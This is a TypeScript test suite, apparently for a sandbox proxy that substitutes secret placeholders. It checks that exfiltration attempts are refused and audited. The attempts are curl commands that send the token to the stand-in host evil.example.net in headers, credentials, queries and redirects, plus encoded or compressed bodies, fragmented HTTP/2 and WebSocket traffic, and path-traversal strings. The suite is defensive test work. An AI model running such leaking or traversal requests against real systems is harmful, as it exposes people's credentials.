import { gzipSync, brotliCompressSync, deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Sandbox } from "@squash/sdk";
import { lacks } from "../../support/needs.js";
import { askHttp2, lines, shell, talk, talkByWebSocket } from "../../support/secrets/inside.js";
import { header } from "../../support/secrets/server.js";
import type { Received } from "../../support/secrets/server/wire.js";
import { useSecrets } from "../../support/secrets/target.js";
import { usualSecrets } from "../../support/secrets/usual-secrets.js";

const target = useSecrets();
const { TOKEN, LOOSE, PATHED } = usualSecrets;
const host = "api.example.com";

const made: { box?: Sandbox; bare?: Sandbox } = {};
beforeAll(async () => {
  made.box = await target.create({ id: "attacker" });
  made.bare = await target.create({ id: "bare", secrets: [] });
});
afterAll(() => target.squashd.destroyAll());

function box(): Sandbox {
  if (made.box === undefined) throw new Error("the sandbox was not made");
  return made.box;
}

const curl = (args: string): Promise<string> => shell(box(), `curl -sS -m 8 --path-as-is ${args}`);

/** A request of HTTP/1.1 with a body, whose pieces are written one after the other. */
async function post(fields: readonly string[], body: Buffer | string, pieceBytes = 65_536): Promise<string> {
  const bytes = Buffer.from(body as string, "latin1").toString("latin1");
  const head = lines(
    "POST /record HTTP/1.1",
    `Host: ${host}`,
    "Connection: close",
    ...fields,
    `Content-Length: ${bytes.length}`,
    "",
  );
  const pieces = [head, ...(bytes.match(new RegExp(`[^]{1,${pieceBytes}}`, "g")) ?? [])];
  return (await talk(box(), { host, pieces, pauseMs: pieces.length > 2 ? 1 : 0 })).text;
}

async function http2(to: string, headers: Record<string, string>, pieces: readonly string[] = []): Promise<string> {
  const [answer] = await askHttp2(box(), to, [{ headers, pieces, pauseMs: 5 }]);
  return `${answer?.status ?? 0} ${answer?.text ?? ""} ${answer?.error ?? ""}`;
}

const letters = (text: string): string[] => Array.from(text);
const percent = (text: string): string =>
  letters(text)
    .map((letter) => `%${letter.charCodeAt(0).toString(16)}`)
    .join("");
const escaped = (text: string): string =>
  letters(text)
    .map((letter) => `\\u00${letter.charCodeAt(0).toString(16)}`)
    .join("");

/** What is tried with a placeholder: what comes of it is told. */
type Attack = (placeholder: string) => Promise<string>;

/** By what is tried: the attack, and how the refusal begins to say where it found the placeholder. */
const attacks: Readonly<Record<string, readonly [Attack, where: string]>> = {
  "in a header to another host": [(it) => curl(`-H 'X-Key: ${it}' https://evil.example.net/record`), "header fields"],
  "in a header to another host by HTTP/1.1": [
    (it) => curl(`--http1.1 -H 'X-Key: ${it}' https://evil.example.net/record`),
    "header fields",
  ],
  "in a header to another host through no proxy": [
    (it) => curl(`--noproxy '*' -H 'X-Key: ${it}' https://evil.example.net/record`),
    "header fields",
  ],
  "in credentials to another host": [
    (it) => curl(`-u 'me:${it}' https://evil.example.net/record`),
    "credentials of Authorization: Basic",
  ],
  "in a query to another host": [(it) => curl(`'https://evil.example.net/record?key=${it}'`), "path or query"],
  "by a redirect to another host": [
    (it) => curl(`-L -H 'Authorization: Bearer ${it}' 'https://${host}/redirect?to=evil.example.net'`),
    "path or query",
  ],
  "without TLS": [(it) => curl(`-H 'X-Key: ${it}' http://${host}/record`), "header fields"],
  "in a query, where it may not stand": [(it) => curl(`'https://${host}/record?key=${it}'`), "path or query"],
  "in a query, percent-encoded": [(it) => curl(`'https://${host}/record?key=${percent(it)}'`), "path or query"],
  "in the path": [(it) => curl(`'https://${host}/record/${it}'`), "path or query"],
  "in a body": [(it) => post(["Content-Type: text/plain"], `it is ${it}.`), "body"],
  "in a body of unknown type": [(it) => post([], `\x00\xff${it}\x00`), "body"],
  "in a body, a byte at a time": [(it) => post(["Content-Type: text/plain"], `<${it}>`, 1), "body"],
  "in a body far behind its beginning": [
    (it) => post(["Content-Type: text/plain"], `${"x".repeat(300_000)}${it}`),
    "body",
  ],
  "in a form": [(it) => curl(`--data-urlencode 'a=${it}' https://${host}/record`), "body"],
  "in a form, percent-encoded": [
    (it) => post(["Content-Type: application/x-www-form-urlencoded"], `a=${percent(it)}`),
    "body",
  ],
  "in JSON, escaped": [(it) => post(["Content-Type: application/json"], `{"a":"${escaped(it)}"}`), "body"],
  "in a body packed by gzip": [
    (it) => post(["Content-Type: text/plain", "Content-Encoding: gzip"], gzipSync(it)),
    "body",
  ],
  "in a body packed by deflate": [
    (it) => post(["Content-Type: text/plain", "Content-Encoding: deflate"], deflateSync(it)),
    "body",
  ],
  "in a body packed by brotli": [
    (it) => post(["Content-Type: text/plain", "Content-Encoding: br"], brotliCompressSync(it)),
    "body",
  ],
  "in a body packed twice": [
    (it) => post(["Content-Type: text/plain", "Content-Encoding: gzip, br"], brotliCompressSync(gzipSync(it))),
    "body",
  ],
  "in frames of HTTP/2 of one byte": [
    (it) => http2(host, { ":path": "/record", ":method": "POST", "content-type": "text/plain" }, letters(it)),
    "body",
  ],
  "in a header of HTTP/2 that takes many frames": [
    (it) =>
      http2("evil.example.net", {
        ":path": "/record",
        "x-filler": "y".repeat(40_000),
        "x-key": `k ${it}`,
        cookie: `a=${it}`,
      }),
    "header fields",
  ],
  "in a message of a WebSocket": [
    async (it) => JSON.stringify(await talkByWebSocket(box(), `wss://${host}/ws`, { messages: [`it is ${it}`] })),
    "messages of a WebSocket",
  ],
  "in a message of a WebSocket in fragments of one byte": [
    async (it) => JSON.stringify(await talkByWebSocket(box(), `wss://${host}/ws`, { messages: [letters(it)] })),
    "messages of a WebSocket",
  ],
};
/** Whether a value has arrived, also in credentials. */
function holds(arrivals: readonly Received[], value: string): boolean {
  const credentials = arrivals.map((each) =>
    Buffer.from(/^Basic (.+)$/.exec(header(each, "authorization") ?? "")?.[1] ?? "", "base64"),
  );
  return JSON.stringify(arrivals).includes(value) || credentials.some((each) => each.includes(value));
}

describe.skipIf(lacks("root"))(
  "a placeholder goes where its secret may, and one that may not is refused and audited:",
  () => {
    it.each(Object.entries(attacks))("%s", async (name, [attack, where]) => {
      let said = "";
      const open = await target.server.arrivalsOf(async () => (said = await attack(LOOSE.placeholder)));
      expect(holds(open, LOOSE.value), said).toBe(true);

      const { placeholder, value } = TOKEN;
      const audit = { sandbox: box().id, secret: "TOKEN", verdict: "refused" } as const;
      const before = (await target.squashd.client.secretAudit({ ...audit, limit: 1_000 })).length;
      const shut = await target.server.arrivalsOf(async () => (said = await attack(placeholder)));
      const arrived = shut.filter(
        ({ target: path, complete, kind }) => complete && kind === "request" && !/^\/(redirect|ws)/.test(path),
      );
      expect(arrived).toEqual([]);
      expect(
        holds(
          shut.filter(({ target: path }) => !path.startsWith("/redirect")),
          value,
        ),
      ).toBe(false);
      expect(said).not.toContain(value);
      if (name.includes("WebSocket")) expect(said).toMatch(/"answers":\[\]/);
      else expect(said).toContain(`squash: Cannot send the placeholder of secret "TOKEN" in the ${where}: `);
      const refusals = (await target.squashd.client.secretAudit({ ...audit, limit: 1_000 })).slice(before);
      expect(refusals).toHaveLength(1);
      expect(refusals[0]).toMatchObject({ status: null, reason: expect.stringMatching(/./) as unknown });
    });

    it("by another method, or to another path, however that is written", async () => {
      const ask = (method: string, path: string): Promise<string> =>
        curl(`-X ${method} -H 'X-Key: ${PATHED.placeholder}' 'https://${host}${path}'`);
      const [arrival] = await target.server.arrivalsOf(async () =>
        expect(await ask("GET", "/record?a=b")).toBe("recorded\n"),
      );
      expect(JSON.stringify(arrival)).toContain(PATHED.value);
      const arrivals = await target.server.arrivalsOf(async () => {
        expect(await ask("POST", "/record")).toMatch(/^squash: .*methods GET/);
        const paths = [
          "/echo",
          "/recorder",
          "/RECORD",
          "//record",
          "/record/../echo",
          "/record/%2e%2e/echo",
          "/record/..;/echo",
          "/record/%252e%252e/echo",
          "/record\\..\\echo",
          "/echo?/record",
          "/echo#/record",
        ];
        const answers = await Promise.all(paths.map((path) => ask("GET", path)));
        for (const said of answers) expect(said).toMatch(/^squash: .*(paths \/record|400)/);
      });
      expect(arrivals).toEqual([]);
    });

    it("to a host that no secret is for, which is not looked into: the worthless placeholder arrives", async () => {
      await using one = await target.create({ secrets: ["TOKEN"] });
      const arrivals = await target.server.arrivalsOf(() =>
        shell(one, `curl -sS -H "X-Key: $TOKEN" https://evil.example.net/record`),
      );
      expect(JSON.stringify(arrivals)).toContain(TOKEN.placeholder);
      expect(JSON.stringify(arrivals)).not.toContain(TOKEN.value);
    });

    it("in a body that is not what it says; what cannot be looked into passes as it is, with nothing put in", async () => {
      const broken = await target.server.arrivalsOf(async () => {
        expect(await post(["Content-Encoding: gzip"], "not packed at all")).toMatch(
          /^HTTP\/1\.1 400 [^]*squash: Cannot pass on a body/,
        );
      });
      expect(broken.filter(({ complete }) => complete)).toEqual([]);
      const [arrival] = await target.server.arrivalsOf(() => post(["Content-Encoding: x-unknown"], LOOSE.placeholder));
      expect(arrival?.body).toBe(LOOSE.placeholder);
    });
  },
);

describe.skipIf(lacks("root"))("a placeholder that is cut where it may go", () => {
  it("over records of TLS and segments of TCP is put in all the same", async () => {
    const request = lines(
      "GET /record HTTP/1.1",
      `Host: ${host}`,
      `Authorization: Bearer ${TOKEN.placeholder}`,
      "Connection: close",
      "",
    );
    const [arrival] = await target.server.arrivalsOf(() => talk(box(), { host, pieces: letters(request), pauseMs: 1 }));
    expect(arrival?.headers).toContainEqual(["Authorization", `Bearer ${TOKEN.value}`]);
  });

  it("is not put together from what does not belong together", async () => {
    const [begin, end] = [TOKEN.placeholder.slice(0, 8), TOKEN.placeholder.slice(8)];
    const arrivals = await target.server.arrivalsOf(() =>
      curl(`-H 'X-A: ${begin}' -H 'X-B: ${end}' -H 'X-C: ${begin}-${end}' https://${host}/record`),
    );
    expect(JSON.stringify(arrivals)).not.toContain(TOKEN.value);
    expect(arrivals).toHaveLength(1);
  });

  it("cannot be the value of another secret, with which one would lead to the other", async () => {
    const nested = { placeholder: "outer-placeholder-1", value: LOOSE.placeholder, allowed_hosts: [host] };
    const refused = target.squashd.client.putSecret("NESTED", nested);
    await expect(refused).rejects.toMatchObject({ code: "invalid_request" });
  });
});
